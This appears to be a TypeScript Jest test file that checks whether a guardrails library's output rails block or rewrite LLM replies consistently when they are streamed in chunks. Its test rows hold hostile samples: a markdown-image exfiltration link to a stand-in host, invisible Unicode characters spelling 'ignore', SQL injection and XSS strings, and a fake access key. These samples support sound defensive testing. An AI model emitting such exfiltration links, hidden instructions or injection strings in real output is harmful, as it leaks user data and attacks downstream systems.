import { describe, expect, it } from "@jest/globals";
import { Guardrails } from "../../src/index.js";
import { ReplyingModel } from "../support/langchain/replying-model.js";

const PROMPT = "You are Ada, the assistant of Example Bank, and never mention rates before the customer has logged in";
const HIDDEN = `hello ${"\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}".repeat(3)} world`;

/** Rails on bot messages, with settings and a message that they block or rewrite. */
const ROWS: readonly (readonly [flow: string, config: object, answer: string])[] = [
  ["detect secrets on output", {}, `key ${["AKIA", "IOSFODNN7EXAMPLA"].join("")} and more`],
  [
    "detect sensitive data on output",
    { sensitive_data_detection: { output: { entities: ["EMAIL_ADDRESS"] } } },
    "Mail ada.lovelace@example.org 😀 now",
  ],
  [
    "regex check output",
    { regex_detection: { output: { patterns: ["project\\s+orion"] } } },
    "It is project \n orion 😀",
  ],
  ["detect key words on output", { key_words: { words: ["project orion"] } }, "We discuss project orion today 😀"],
  [
    "detect key words on output",
    { key_words: { words: ["project orion"] } },
    `${"It is so. ".repeat(5)}Well project orion, at the end of the first window`,
  ],
  ["detect urls on output", { url_check: { deny: ["evil.example"] } }, "see https://evil.example/path?x=1 😀 now"],
  ["detect exfiltration on output", {}, "x ![a](https://evil.example/?q=c2VjcmV0c2VjcmV0c2VjcmV0) 😀 y"],
  ["detect prompt leak on output", { prompt_leak: { prompts: [PROMPT], least_words: 6 } }, `Well: ${PROMPT}. Right?`],
  ["detect hidden text on output", {}, HIDDEN],
  ["detect hidden text on output", { hidden_text: { output: { action: "mask" } } }, HIDDEN],
  ["injection detection", {}, "run '; DROP TABLE users; -- 😀 ok"],
  ["injection detection", { injection_detection: { action: "omit" } }, "run <script>alert(1)</script> 😀 ok"],
];

const units = (text: string): readonly string[] => Array.from({ length: text.length }, (_, at) => text.charAt(at));

/** Ways in which a model may cut its message. */
const CUTS: Readonly<Record<string, (text: string) => readonly string[]>> = {
  "one code unit each": units,
  "a chunk without text after each unit": (text) => units(text).flatMap((unit) => [unit, ""]),
  "many chunks without text": (text) => units(text).flatMap((unit) => [...Array.from({ length: 9 }, () => ""), unit]),
  "three code units each": (text) => text.match(/[^]{1,3}/g) ?? [],
  "one chunk": (text) => [text],
  "the last unit apart": (text) => [text.slice(0, -1), text.slice(-1)],
};

describe.each(["1.0", "2.x"])("findings in streams in Colang %s", (colang_version) => {
  it.each(ROWS)("`%s` with %j treats %j alike in all chunks", async (flow, config, answer) => {
    const rails = { output: { flows: [flow] }, config };
    const guardrails = await Guardrails.fromConfig({ config: { colang_version, rails } }, { logger: false });
    const whole = await guardrails.wrap(new ReplyingModel(() => [answer])).invoke("hi");
    expect(whole.text).not.toBe(answer);
    for (const [title, cut] of Object.entries(CUTS)) {
      let streamed = "";
      const model = guardrails.wrap(new ReplyingModel(() => cut(answer)));
      for await (const chunk of await model.stream("hi")) streamed += chunk.text;
      // Windows before the finding may have been emitted.
      const isTreated = streamed === whole.text || (streamed.endsWith(whole.text) && !streamed.includes(answer));
      expect([title, isTreated, streamed]).toEqual([title, true, streamed]);
    }
  });
});
